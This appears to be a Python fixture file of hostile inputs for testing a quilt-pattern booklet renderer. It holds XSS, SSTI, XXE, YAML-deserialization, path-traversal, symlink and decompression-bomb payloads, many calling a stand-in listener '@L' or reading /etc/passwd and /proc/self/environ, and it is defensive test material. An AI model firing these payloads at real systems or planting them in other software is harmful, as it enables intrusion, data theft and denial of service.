"""Folders that a stranger might send, as a table: what each holds beside a small sound pattern.

`@L` stands for the address of a listener on this machine, `@OUT` for a folder beside the pattern's, in which
a secret lies: as a text, a template, a style sheet and a picture.
"""

import io
import json
import struct
import zlib
from dataclasses import dataclass, field

from fontTools.ttLib import TTFont
from fontTools.ttLib.tables.DefaultTable import DefaultTable
from picture_bytes import chunk, jpeg, png, zeros

from booklet.pages.style.fonts import FACES

SECRET = "heron7193secret"
PIXEL = b"\x89PNG\r\n\x1a\n"


@dataclass(frozen=True)
class Link:
    """A symbolic link to what it names."""

    to: str


@dataclass(frozen=True)
class Odd:
    """Something that is no plain file: a queue (`fifo`), or a file of so many bytes of nothing."""

    size: int | None = None


@dataclass(frozen=True)
class Hostile:
    """One folder: its name, its files, and whether what it shows differs where pages are trusted."""

    name: str
    files: dict[str, str | bytes | Link | Odd] = field(default_factory=dict)
    has_pages: bool = False
    in_print: bool = False


def source(said: str = "", pages=("cover", "text/a.md", "notes"), ascii=True, **more) -> str:
    """The pattern as JSON, which is YAML; `said` is added to every word that a page shows."""
    made = {
        "title": f"Quay {said}"[:170],
        "designer": f"Studio {said}"[:170],
        "version": f"1 {said}"[:25],
        "summary": f"Lamps {said}",
        "sizes": {"lap": {"title": f"Lap {said}"[:60], "unit": "1 in", "blocks": "2 x 2"}},
        "fabrics": {
            "ink": {"name": f"Ink {said}"[:60], "colour": "#243b6b"},
            "sand": {"name": f"Sand {said}"[:60], "colour": "#e9dcc3"},
        },
        "blocks": {
            "b": {
                "title": f"Block {said}"[:60],
                "size": "2 x 1",
                "pieces": [
                    {"id": "a", "square": 1, "fabric": "ink", "at": [0.5, 0.5]},
                    {"id": "c", "square": 1, "fabric": "sand", "at": [1.5, 0.5]},
                ],
                "sew": [{"make": "pair", "join": ["a", "c"], "note": f"Look {said}"}],
            }
        },
        "quilt": {"arrange": [["b"]]},
        "booklet": {
            "class": {
                "homework": [f"Cut {said}"[:270]],
                "sessions": [
                    {"title": f"Wings {said}"[:90], "minutes": 60, "do": [f"Sew {said}"[:270]]}
                ],
            },
            "look": {"titles": {"notes": f"Diary {said}"[:60]}},
            "editions": {"p": {"pages": list(pages), "names": [f"Ilse {said}"[:40]]}},
        },
    }
    for block in made["blocks"].values():
        for piece in block["pieces"]:
            side = piece.pop("square")
            piece["patch"] = "tile"
            made["patches"] = {"tile": {"shape": "square", "side": side}}
    return json.dumps(made | more, ensure_ascii=ascii)


ALL_PAGES = ("cover", "text/a.md", "class", "materials", "piecing", "notes")
SOUND = {"pattern.yaml": source(), "text/a.md": "# Welcome\n"}

# Words that are markup, code or marks of ours, in every place that shows words

WORDS = {
    "script": "<script>alert(1);fetch('http://@L/w')</script>",
    "image": '<img src=http://@L/w onerror="alert(1)">',
    "end of attribute": '" onmouseover="alert(1)" style="background:url(http://@L/w)',
    "end of apostrophe": "' onload='alert(1)' x='",
    "end of title": "</title><script>alert(1)</script>",
    "end of style": "</style><meta http-equiv=refresh content='0;url=http://@L/w'>",
    "end of picture": "</text></svg><script>alert(1)</script>",
    "refresh": "<meta http-equiv=refresh content=0;url=http://@L/w>",
    "base": "<base href=http://@L/>",
    "form": "<form action=http://@L/w><input autofocus onfocus=alert(1)>",
    "frame": "<iframe src=http://@L/w></iframe>",
    "noembed": "<noembed><script>alert(1)</script>",
    "noframes": "<noframes></noframes><img src=http://@L/w>",
    "plaintext": "<plaintext><xmp><listing>",
    "comment": "<!--><script>alert(1)</script>-->",
    "cdata": "]]><script>alert(1)</script>",
    "instruction": "<?xml-stylesheet href='http://@L/w'?>",
    "entity": "&lt;script&gt;&#60;img src=x&#62; &#x1;",
    "template": "{{ 7*7 }}{% include '@OUT/secret.html' %}{{ ''.__class__ }}",
    "our mark of style": "/*style*/ { } @import 'http://@L/w';",
    "our slot": '<slot data-n="0"></slot>',
    "our old token": "\ue0000\ue001 klzzwxh:0000 wzxhzdk:0",
    "style string": '"; } body { background: url(http://@L/w) } x { content: "',
    "style escape": "\\22 ;}@import url(http://@L/w);",
    "address": "javascript:alert(1)",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "picture": "<svg><use href='http://@L/w#x'/><image href='http://@L/w'/></svg>",
    "directions": "\u200f\u200e\u061c\u00ad\u200b\ufeff",
    "emoji": "\U0001f600\U0001f469\u200d\U0001f9f5",
    "combining": "a" + "\u0301" * 30,
    "separators": "a\u2028b\u2029c",
}

PRINTED = (
    "end of attribute",
    "end of style",
    "entity",
    "our mark of style",
    "style string",
    "style escape",
)

# Signs that cannot be shown, and terminals

SIGNS = {
    "start of heading": "\x01",
    "escape": "\x1b[2J\x1b]0;title\x07",
    "link of a terminal": "\x1b]8;;http://@L/w\x1b\\x\x1b]8;;\x1b\\",
    "clipboard of a terminal": "\x1b]52;c;aGVyb24=\x07",
    "delete": "\x7f",
    "control of the second kind": "\x9b2J",
    "next line": "\x85",
    "half of a pair": "\ud83d",
    "the other half": "\ude00",
    "halves in wrong order": "\ude00\ud83d",
    "no character": "\ufffe",
    "the other no character": "\uffff",
    "null": "\x00",
    "carriage return": "a\rb",
    "vertical tab": "\x0b\x0c",
}

# Markdown

MARKDOWN = {
    "script": "<script>alert(1)</script>",
    "block of html": "<div onclick=alert(1)>\n\n<img src=http://@L/m>\n\n</div>",
    "link that runs": "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](\x20javascript:alert(1))",
    "link with entities": "[x](&#106;avascript:alert(1)) [y](java&#10;script:alert(1)) [z](&#x1;javascript:alert(1))",
    "link of data": "[x](data:text/html,<script>alert(1)</script>)",
    "link to a file": "[x](file://@OUT/secret.md) [y](../../secret.md) [z](/etc/passwd)",
    "link without a scheme": "[x](//@L/m) [y](\\\\\\\\@L\\\\m)",
    "link by plain http": "[x](http://@L/m)",
    "automatic link": "<http://@L/m> <javascript:alert(1)> <mailto:a@example.org>",
    "reference": "[x][r]\n\n[r]: javascript:alert(1) 'title\" onclick=\"alert(1)'",
    "title of a link": '[x](#a "b\\" onclick=\\"alert(1)")',
    "place that ends": '[x](#"><script>alert(1)</script>)',
    "place with a tag": '[x](#<th>) [y](#a>1/16>1/16"b)',
    "figure in a place": "{{ figure.cover }}\n\n[x](#{{ figure.cover }}) [y](#{{ title }})",
    "forged token": "{{ figure.cover }} [x](#&#xe000;0&#xe001;) &#xe000;0&#xe001;",
    "forged slot": '{{ title }} <slot data-n="0"></slot> [x](#<slot data-n="0"></slot>)',
    "forged stash": "{{ title }} &#2;klzzwxh:0000&#3; &#2;wzxhzdk:0&#3; &#2;amp&#3;",
    "picture from elsewhere": "![x](http://@L/m.png)",
    "picture of data": "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "picture without a scheme": "![x](//@L/m.png)",
    "picture outside": "![x](../../secret.png) ![y](@OUT/secret.png)",
    "picture by reference": "![x][r]\n\n[r]: http://@L/m.png",
    "words of a picture": '![" onerror="alert(1)](a.png)',
    "heading with markup": "# <img src=http://@L/m> `</h2><script>alert(1)</script>`",
    "table with markup": "| <th onclick=alert(1)> | b |\n|---|---|\n| `<script>` | [x](javascript:alert(1)) |",
    "code": "    <script>alert(1)</script>\n\n`<img src=http://@L/m>`",
    "template code": "{{ ''.__class__ }} {% include '@OUT/secret.html' %} {# x #}",
    "names without end": "{{ title }} " * 190,
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &bogus; &#0; &#xd800; &#1;",
    "comment": "<!-- --><script>alert(1)</script><!-- -->",
    "unclosed tags": "<a href='http://@L/m'\n\n<img src=http://@L/m\n",
    "note of a teacher": "::: teacher\n<script>alert(1)</script>\n:::\n\nx",
    "refresh": "<meta http-equiv=refresh content=0;url=http://@L/m>",
    "deep": "> " * 3000 + "x",
    "lists without end": "\n".join("  " * k + "- x" for k in range(200)),
    "brackets": "[" * 20000,
    "stars": "*a **b " * 3000,
    "references without end": "\n".join(f"[{k}]: #{k}" for k in range(2000)) + "\n\n[1][1]",
    "signs of ours": "\u0001 klzzwxh",
    "a line that never ends": "x" * 90000,
    "quotes": "\"'" * 2000,
    "figures without end": "{{ figure.cover }}\n\n" * 20000,
    "pictures without end": "![x](a.png)\n\n" * 20000,
    "lists of one level": "- x\n" * 200000,
    "name of spaces": "x {{" + " " * 90000 + "x",
    "name of spaces, closed": "x {{" + " " * 90000 + "}}",
    "brackets in many lines": ("[" * 190 + "\n") * 10 + ("x" * 80 + "\n") * 900,
    "pictures that begin": ("![" * 190 + "\n") * 10 + ("x" * 80 + "\n") * 900,
    "addresses that begin": ("[x](" * 190 + "\n") * 10 + ("(" * 80 + "\n") * 900,
    "stars in many lines": ("*a **b " * 60 + "\n") * 200,
    "strokes in many lines": ("_a __b " * 60 + "\n") * 200,
    "rows of nothing": "a|b\n-|-\n" + ("|" * 80 + "\n") * 1100,
    "a wide table": "|" * 20000 + "\n" + "|-" * 20000 + "\n" + "|" * 20000,
    "a long address": "[a]: <" + " " * 90000 + "x",
    "an address of mail": "<" + "a." * 40000 + "@example.org>",
    "headings that close": "# x" + " #" * 40000 + "y",
    "turned strokes": "\\" * 90000,
    "direction by number": "&#x202e;cut 12 &#8238; [x](https://example.org/&#x202e;y)",
    "link with a user": "[our shop](https://example.org@@L/m) [x](https://@L%2f@example.org)",
    "address with line ends": "[x](https://example.org/&#10;&#13;Set-Cookie:x) [y](mailto:a@example.org?attach=/etc/passwd)",
    "reference to a file": "[x][r] [r]\n\n[r]: file:///etc/passwd\n[r2]: vbscript:x",
    "picture in a link": "[![x](a.png)](javascript:alert(1)) [![y](http://@L/m)](https://example.org)",
    "name in an address": "[x](https://example.org/{{ title }}) ![{{ title }}](a.png) [{{ figure.cover }}](#x)",
    "name in code": "`{{ title }}`\n\n    {{ table.materials }}",
}

# Page templates and style sheets: left out, and harmless where they are trusted

TEMPLATES = {
    "file by dots": "{% include '../../../../../../../../..@OUT/secret.html' %}",
    "file by dots in pages": "{% include 'pages/../../secret.html' %}",
    "file by its path": "{% include '@OUT/secret.html' %}",
    "file extended": "{% extends '../../secret.html' %}",
    "file imported": "{% import '@OUT/secret.html' as s %}{{ s }}",
    "files one after the other": "{% include ['../../secret.html', '@OUT/secret.html'] ignore missing %}",
    "classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "classes by filter": "{{ ''|attr('__class__') }}",
    "classes by format": "{{ '{0.__class__}'.format(title) }}",
    "globals": "{{ t.__globals__ }}{{ picture.__code__ }}",
    "context": "{{ self._TemplateReference__context }}",
    "builtins": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "lipsum": "{{ lipsum.__globals__['os'].environ }}",
    "script": "<script>alert(1);fetch('http://@L/t')</script>",
    "script in parts": "<scr{{ 'ipt' }}>alert(1)</scr{{ 'ipt' }}>",
    "safe": "{{ '<script>alert(1)</script>'|safe }}",
    "handler": "<p onclick=alert(1) onmouseover=alert(1) tabindex=0>x</p>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>' src=http://@L/t></iframe>",
    "object": "<object data=http://@L/t></object><embed src=http://@L/t><applet code=http://@L/t>",
    "base": "<base href=http://@L/><a href=x>y</a>",
    "form": "<form action=http://@L/t id=f></form><button form=f formaction=http://@L/t>x</button>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://@L/t'>",
    "policy": "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "link": "<link rel=stylesheet href=http://@L/t><link rel=prefetch href=http://@L/t>",
    "style": "<style>@import 'http://@L/t'; body { background: url(http://@L/t) }</style>",
    "style of an element": "<p style='background:url(http://@L/t);--x:url(http://@L/t);position:fixed'>x</p>",
    "pictures": "<img src=http://@L/t srcset='http://@L/t 2x'><picture><source srcset=http://@L/t></picture>",
    "sound": "<audio src=http://@L/t autoplay></audio><video poster=http://@L/t></video>",
    "svg": "<svg><script>alert(1)</script><use href=http://@L/t#x /><image href=http://@L/t /></svg>",
    "animation": "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "mixed up": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "noembed": "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "noframes": "<noframes><style></noframes><script>alert(1)</script>",
    "plaintext": "<plaintext><xmp><textarea>",
    "unclosed": "<div><table><tr><td><a href='",
    "end of body": "</section></main></body></html><script>alert(1)</script>",
    "comment": "<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>",
    "link that runs": "<a href=javascript:alert(1)>x</a><a href='java&#9;script:alert(1)'>y</a>",
    "link without a scheme": "<a href=//@L/t>x</a><a href='/\\@L/t'>y</a><a href=file:///etc/passwd ping=http://@L/t>z</a>",
    "figure in an attribute": "<p title=\"{{ picture('cover') }}\">x</p><p title='{{ picture('cover') }}'>",
    "figure taken apart": "{{ picture('cover')|string|replace('slot', 'script') }}{{ picture('cover')[:12] }}",
    "slot": "<slot data-n=0></slot><slot data-n=99></slot><slot data-n='-1'></slot>",
    "figure of one's own": "{{ place(namespace(svg='<script>alert(1)</script>', caption='', width_mm=1)) }}",
    "class of a figure": "{% set c %}\"><script>alert(1)</script>{% endset %}{{ picture('cover', c) }}",
    "head of one's own": "{% set c %}<script>alert(1)</script>{% endset %}{{ head(1, c) }}{{ q(c) }}",
    "swatch of one's own": "{{ swatch(namespace(id='x', colour='red;background:url(http://@L/t)')) }}",
    "words of one's own": "{% set c %}<script>alert(1)</script>{% endset %}{{ t('Make {n}', n=c) }}",
    "not closed": "{% for x in",
    "not known": "{{ nothing }}",
    "calls itself": "{% include 'pages/notes.html' %}",
    "division": "{{ 1 / 0 }}",
    "deep": "(" * 3000 + "{{ " + "(" * 3000 + " }}",
    "page of pages": "{% include 'base.html' %}",
    "dialog": "<dialog open><form method=dialog><button autofocus>x</button></form></dialog>",
    "details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "marquee": "<marquee onstart=alert(1)>x</marquee><body onload=alert(1)>",
    "slots of shadow": "<template shadowrootmode=open><script>alert(1)</script></template>",
    "clobbering": "<p id=contents name=body></p><a id=location href=#x>y</a>",
    "import map": "<script type=importmap>{}</script><script type=module src=http://@L/t></script>",
}
STYLES = {
    "import": "@import 'http://@L/s'; @import url(//@L/s);",
    "ground": "body { background: url(http://@L/s) }",
    "ground by escapes": "body { background: \\75 \\72 \\6c(http://@L/s) } p { background: u\\72l('//@L/s') }",
    "set of pictures": "body { background: image-set('http://@L/s' 1x) } h1 { background: -webkit-image-set(url(http://@L/s) 1x) }",
    "content": "h1::before { content: url(http://@L/s) }",
    "font": "@font-face { font-family: x; src: url(http://@L/s), url(../font.ttf), url(file://@OUT/secret.png) } body { font-family: x }",
    "list": "li { list-style: url(http://@L/s) } a { cursor: url(http://@L/s), auto }",
    "mask": "main { mask: url(http://@L/s#m); filter: url(http://@L/s#f); clip-path: url(http://@L/s#c) }",
    "border": "main { border-image: url(http://@L/s) 1 }",
    "page": "@page { background: url(http://@L/s); @top-left { content: url(http://@L/s) } }",
    "file": "body { background: url(file://@OUT/secret.png) } h1 { background: url(../../secret.png) }",
    "end": "</style><script>alert(1)</script>",
    "end in capitals": "</STYLE\n><img src=http://@L/s onerror=alert(1)>",
    "end in a string": 'h2::after { content: "</style><meta http-equiv=refresh content=0;url=http://@L/s>" }',
    "comment": "<!-- </style><script>alert(1)</script> -->",
    "mark of ours": "/*style*/ h2 { color: red } /*style*/",
    "links": "p { link: url(javascript:alert(1)) } h1 { link: url(file:///etc/passwd) } h2 { link: url(http://@L/s) }",
    "attachments": "p { -weasy-link: url(x); attachment: url(file://@OUT/secret.md) }",
    "names": "@namespace url(http://@L/s); @document url(http://@L/s) { p { color: red } } @charset 'x';",
    "not closed": "p { color: red",
    "letters that ask": "input[value^=a] { background: url(http://@L/s) } [id^=c] { background: url(http://@L/s) }",
    "running": "p { behavior: url(http://@L/s); -moz-binding: url(http://@L/s); width: expression(alert(1)) }",
    "source": "body { background: src('http://@L/s'); background: paint(x) } main { background: cross-fade(url(http://@L/s), red) }",
    "properties": "@property --x { syntax: '<url>'; inherits: true; initial-value: url(http://@L/s) } body { background: var(--x) }",
}

# Drawings


def svg(inside: str, head: str = "", attributes: str = "") -> str:
    """A drawing of two squares with something added."""
    squares = '<rect id="a" width="1" height="1" fill="#243b6b"/><rect id="c" x="1" width="1" height="1" fill="#e9dcc3"/>'
    return (
        f'{head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'viewBox="0 0 2 1" {attributes}>{squares}{inside}</svg>'
    )


LAUGHS = "".join(
    f'<!ENTITY l{k} "{f"&l{k - 1};" * 10}">' if k else '<!ENTITY l0 "lol">' for k in range(10)
)
SPACES = " " * 190000
CROSSING = [
    f"<polygon points='{' '.join(f'{(k * 37 + j * 11) % 2000 / 1000} {(k * 13 + j * 7) % 1000 / 1000}' for j in range(25))}' "
    "fill='#243b6b'/>"
    for k in range(150)
]
DRAWINGS = {
    "script": svg("<script>alert(1)</script>"),
    "handler": svg("", attributes='onload="alert(1)"'),
    "handler of a shape": svg(
        '<rect id="d" width="1" height="1" onclick="alert(1)" fill="#243b6b"/>'
    ),
    "foreign": svg(
        "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='http://@L/d'/></foreignObject>"
    ),
    "copy from elsewhere": svg("<use href='http://@L/d#x'/>"),
    "picture from elsewhere": svg("<image href='http://@L/d.png' width='1' height='1'/>"),
    "picture of a file": svg("<image xlink:href='file://@OUT/secret.png' width='1' height='1'/>"),
    "entity of a file": svg(
        "<text>&x;</text>", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file://@OUT/secret.md">]>'
    ),
    "entity from elsewhere": svg("", '<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://@L/d"> %x;]>'),
    "document type from elsewhere": svg("", '<!DOCTYPE svg SYSTEM "http://@L/d.dtd">'),
    "entities without end": svg("<text>&l9;</text>", f"<!DOCTYPE svg [{LAUGHS}]>"),
    "style sheet": svg("", "<?xml-stylesheet href='http://@L/d.css'?>"),
    "import in a style": svg(
        "<style>@import url(http://@L/d); rect { fill: url(http://@L/d) }</style>"
    ),
    "style that closes": svg("<style>rect { fill: red }&lt;/style&gt;</style>"),
    "fill from elsewhere": svg("<rect id='d' width='1' height='1' fill='url(http://@L/d#x)'/>"),
    "link": svg(
        "<a href='javascript:alert(1)'><rect id='d' width='1' height='1' fill='#243b6b'/></a>"
    ),
    "animation": svg("<animate attributeName='href' values='javascript:alert(1)'/>"),
    "set": svg("<set attributeName='onload' to='alert(1)'/>"),
    "included": svg(
        "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file://@OUT/secret.md'/>"
    ),
    "name that is markup": svg("").replace('id="a"', 'id="&lt;script&gt;alert(1)&lt;/script&gt;"'),
    "name that ends": svg("").replace('id="a"', 'id="a&quot; onload=&quot;alert(1)"'),
    "colour that ends": svg("").replace("#243b6b", "red;background:url(http://@L/d)"),
    "deep": svg("<g>" * 5000 + "</g>" * 5000),
    "numbers beyond all use": svg("").replace('width="1"', 'width="1e999"'),
    "numbers that are none": svg("").replace('width="1"', 'width="NaN"'),
    "points without end": svg(f"<polygon id='d' points='{'0 0 1 1 ' * 20000}' fill='#243b6b'/>"),
    "shapes without end": svg("<rect width='1' height='1'/>" * 25000),
    "in another coding": svg("", '<?xml version="1.0" encoding="UTF-7"?>').encode(),
    "in sixteen bits": svg("<script>alert(1)</script>").encode("utf-16"),
    "names of another kind": '<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>alert(1)</x:script></x:svg>',
    "html": "<html><body onload=alert(1)><script>alert(1)</script></body></html>",
    "packed": zlib.compress(svg("").encode()),
    "spaces in an outline": svg(f'<path id="d" d="M 0 0 {SPACES}# L 1 1" fill="#243b6b"/>'),
    "spaces in points": svg(f'<polygon id="d" points="0 0 {SPACES}# 1 1" fill="#243b6b"/>'),
    "spaces in a transform": svg(
        f'<rect id="d" transform="scale(1) {SPACES}x" width="1" height="1" fill="#243b6b"/>'
    ),
    "spaces in a width": svg(f'<rect id="d" width="1{SPACES}x" height="1" fill="#243b6b"/>'),
    "spaces in a style sheet": svg(f"<style>{SPACES}</style>"),
    "remarks without end": svg(f"<style>{'/*x' * 30000}</style>"),
    "transforms of all shapes": svg(
        f"<g transform='{'scale(1) ' * 20000}'>" + "<rect width='1' height='1'/>" * 1900 + "</g>"
    ),
    "beyond all numbers": svg(
        "<g transform='scale(1e6)'>" * 60
        + "<rect id='d' width='1' height='1' fill='#243b6b'/>"
        + "</g>" * 60
    ),
    "font of its own": svg(
        "<font><font-face><font-face-src><font-face-uri href='http://@L/f'/></font-face-src></font-face></font>"
        "<style>@font-face { font-family: x; src: url(http://@L/f) }</style>"
    ),
    "cursor from elsewhere": svg(
        "<rect id='d' width='1' height='1' fill='#243b6b' cursor='url(http://@L/d)' mask='url(http://@L/d#m)'/>"
    ),
    "base from elsewhere": svg("", attributes='xml:base="http://@L/"'),
    "words that turn": svg("<text>&#x202e;21</text>").replace('id="a"', 'id="a&#x202e;"'),
    "crossing polygons": svg("".join(CROSSING)),
    "transform": svg(
        "<g transform='matrix(1e300 0 0 1e300 0 0)'><rect id='d' width='1' height='1' fill='#243b6b'/></g>"
    ),
}

# Pictures: of a cloth, in a text, as a logo


def with_chunk(name: bytes, body: bytes) -> bytes:
    """A PNG picture with one more chunk after its head."""
    whole = png()
    return whole[:33] + chunk(name, body) + whole[33:]


PICTURES = {
    "svg by another name": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><image href='http://@L/p'/></svg>",
    "html by another name": b"<html><script>alert(1)</script>",
    "gif": b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
    "gif that is a script": b"GIF89a=1;alert(1);//",
    "script behind a picture": png() + b"<script>alert(1)</script>",
    "script in a picture": with_chunk(b"tEXt", b"Title\0<script>alert(1)</script>"),
    "end of a page in a picture": jpeg()[:-2] + b"</html><script>alert(1)</script>\xff\xd9",
    "many pixels": PIXEL
    + chunk(b"IHDR", b"\x00\x01\x00\x00\x00\x01\x00\x00\x08\x02\0\0\0")
    + chunk(b"IDAT", zlib.compress(b"\0" * 99999))
    + chunk(b"IEND", b""),
    "pixels that swell": png(60, 60, zeros(10_000_000)),
    "rows that swell": png(2, 2, zeros(50_000_000)),
    "text that swells": with_chunk(b"zTXt", b"x\0\0" + zeros(50_000_000)),
    "profile that swells": with_chunk(b"iCCP", b"x\0\0" + zeros(50_000_000)),
    "profile that is none": with_chunk(b"iCCP", b"x\0\0nothing"),
    "moving": with_chunk(b"acTL", b"\x7f\xff\xff\xff\0\0\0\0"),
    "exif": with_chunk(b"eXIf", b"MM\0*" + b"\xff" * 40),
    "no pixels": PIXEL + chunk(b"IHDR", b"\0\0\0\0\0\0\0\0\x08\0\0\0\0") + chunk(b"IEND", b""),
    "cut off": png()[:-20],
    "false sum": png()[:-6] + b"\0" * 6,
    "length beyond the end": PIXEL + b"\xff\xff\xff\xffIHDR",
    "jpeg without an end": jpeg()[:-40],
    "jpeg of many pixels": jpeg().replace(b"\x00\x02\x00\x02", b"\xff\xff\xff\xff"),
    "jpeg of empty parts": b"\xff\xd8" + b"\xff\xe0\x00\x00" * 1000 + b"\xff\xd9",
    "jpeg of several": jpeg()[:2]
    + b"\xff\xe2\x00\x1aMPF\0MM\0*\0\0\0\x08"
    + b"\xff" * 12
    + jpeg()[2:],
    "jpeg with a profile of many parts": jpeg()[:2]
    + b"\xff\xe2\x00\x12ICC_PROFILE\0\xff\xff" * 5000
    + jpeg()[2:],
    "jpeg of a false exif": jpeg()[:2]
    + b"\xff\xe1\x00\x2eExif\0\0MM\0*\0\0\0\x08"
    + b"\xff" * 30
    + jpeg()[2:],
    "parts without end": png()[:33] + chunk(b"tEXt", b"a\0b") * 100_000 + png()[33:],
    "words that swell": png()[:33]
    + chunk(b"zTXt", b"x\0\0" + zlib.compress(b"\0" * 900_000)) * 200
    + png()[33:],
    "colours that are none": with_chunk(b"PLTE", b"\0" * 7),
    "rows in seven steps": PIXEL
    + chunk(b"IHDR", b"\0\0\x1b\x58\0\0\x1b\x58\x10\x06\0\0\1")
    + chunk(b"IDAT", zeros(90_000_000))
    + chunk(b"IEND", b""),
    "nothing": b"",
    "pdf": b"%PDF-1.7 /OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
    "zip": b"PK\x03\x04" + b"\0" * 60,
    "font": b"\x00\x01\x00\x00" + b"\xff" * 400,
}

# Names of files, and links of the file system

NAMES = {
    "dots": "../secret.{}",
    "dots behind a folder": "text/../../secret.{}",
    "its path": "@OUT/secret.{}",
    "home": "~/secret.{}",
    "file address": "file://@OUT/secret.{}",
    "address": "http://@L/n.{}",
    "address in capitals": "HTTP://@L/n.{}",
    "no scheme": "//@L/n.{}",
    "a share": "\\\\@L\\n.{}",
    "a drive": "C:\\secret.{}",
    "turned strokes": "..\\secret.{}",
    "dots as signs": "%2e%2e/secret.{}",
    "dots of another kind": "\uff0e\uff0e/secret.{}",
    "data": "data:text/plain,x.{}",
    "a stream": "pattern.yaml::$DATA.{}",
    "the machine's own": "/proc/self/environ#.{}",
    "a very long name": "a" * 190 + ".{}",
    "nothing before the dot": ".{}",
    "a folder": "text/.{}",
    "a query": "text/a.{}?x",
}
LINKS = {
    "text": {"text/a.md": Link("@OUT/secret.md")},
    "text by dots": {"text/a.md": Link("../../secret.md")},
    "folder of texts": {"text": Link("@OUT")},
    "pattern": {"pattern.yaml": Link("@OUT/secret.md")},
    "drawing": {"drawing.svg": Link("@OUT/secret.md")},
    "picture": {"picture.png": Link("@OUT/secret.png")},
    "picture of a text": {"text/a.png": Link("@OUT/secret.png"), "text/a.md": "![x](a.png)"},
    "page": {"pages/notes.html": Link("@OUT/secret.html")},
    "folder of pages": {"pages": Link("@OUT/pages")},
    "style": {"style.css": Link("@OUT/secret.css")},
    "round": {"text/a.md": Link("a.md")},
    "device": {"text/a.md": Link("/dev/zero")},
    "terminal": {"text/a.md": Link("/dev/stdin")},
    "memory": {"text/a.md": Link("/proc/self/mem")},
    "folder for text": {"text/a.md/b": "x"},
}

ODD = {
    "queue for a text": {"text/a.md": Odd()},
    "queue for the pattern": {"pattern.yaml": Odd()},
    "queue for a style": {"style.css": Odd()},
    "queue for a page": {"pages/notes.html": Odd()},
    "text of nothing": {"text/a.md": Odd(20 << 30)},
    "pattern of nothing": {"pattern.yaml": Odd(900_000)},
    "style of nothing": {"style.css": Odd(20 << 30)},
    "page that steers": {"pages/\x1b[2J\x1b]0;x\x07.html": "x"},
    "page in no coding": {"pages/\udcff.html": "x"},
    "text that steers": {
        "text/\x1b[2J.md": "x",
        "pattern.yaml": source(pages=("text/\x1b[2J.md",)),
    },
}

# Sources: YAML at its oddest, numbers, names

SOURCES = {
    "object": '!!python/object/apply:os.system ["touch @OUT/pwned"]',
    "object by a directive": '%TAG ! tag:yaml.org,2002:python/\n---\n!object/apply:os.system ["id"]',
    "laughs": "a0: &a0 x\n"
    + "".join(f"a{k + 1}: &a{k + 1} [{','.join([f'*a{k}'] * 9)}]\n" for k in range(12)),
    "merged": "a: &x {b: c}\n<<: *x\n",
    "itself": "&x {title: *x}",
    "keys that are lists": "{? {a: b} : c, ? [x] : d}",
    "many documents": "---\n" * 50000,
    "brackets": "[" * 50000,
    "dashes": "- " * 50000,
    "questions": "? " * 50000,
    "same keys": "{" + '"a": 1, ' * 20000 + '"b": 2}',
    "quotes never closed": 'a: "' + "\n" * 200000,
    "long key": "a" * 200000 + ": 1",
    "sixteen bits": source().encode("utf-16"),
    "marks of order": "\ufeff" * 100 + source(),
    "names of the language": source()
    .replace('"ink"', '"__proto__"')
    .replace('"sand"', '"__class__"'),
    "words that turn": source("\u202e12 3/4 in"),
    "words held apart": source("\u2066\u2067x\u2069"),
    "spaces in a length": source(
        sizes={"lap": {"unit": "1" + " " * 200000 + "x", "blocks": "2 x 2"}}
    ),
    "spaces in a count": source(
        sizes={"lap": {"unit": "1 in", "blocks": "2" + " " * 200000 + "y"}}
    ),
    "digits": source(sizes={"lap": {"unit": "9" * 200000, "blocks": "2 x 2"}}),
    "powers": source(sizes={"lap": {"unit": "*".join(["99999999"] * 21), "blocks": "2 x 2"}}),
    "roots": source(sizes={"lap": {"unit": "\u221a" * 190 + "2", "blocks": "2 x 2"}}),
    "almost nothing": source(sizes={"lap": {"unit": "1/" + "9" * 150, "blocks": "2 x 2"}}),
    "infinite": source(sizes={"lap": {"unit": ".inf", "blocks": ".nan x .inf"}}),
    "digits of elsewhere": source(
        sizes={"lap": {"unit": "\u0661 in", "blocks": "\u00b2 x \u2461"}}
    ),
    "blocks without end": source(sizes={"lap": {"unit": "1 in", "blocks": "99999 x 99999"}}),
    "editions without end": source(
        booklet={"editions": {f"e{k}": {"pages": ["cover"]} for k in range(4000)}}
    ),
    "editions of one file": source(
        sizes={s: {"unit": "1 in", "blocks": "2 x 2"} for s in ("a", "a-a")},
        booklet={"editions": {e: {"pages": ["cover", "materials"]} for e in ("p", "p-a")}},
    ),
    "names in values": source("{{ title }} {{ figure.cover }}", ALL_PAGES),
    "names of the machine": source(
        booklet={"editions": {"con": {"pages": ["cover"]}}}, title="nul"
    ),
    "a title of dots": source(title="../../etc/x"),
    "a title of strokes": source(title="a/b\\c:d|e<f>g?h*i"),
}


def woff(packed: bytes, length: int) -> bytes:
    """A WOFF font of one packed table that says how long it is unpacked."""
    head = struct.pack(
        ">4sIIHHIHHIIIII", b"wOFF", 0x10000, 64 + len(packed), 1, 0, 99, 1, 0, 0, 0, 0, 0, 0
    )
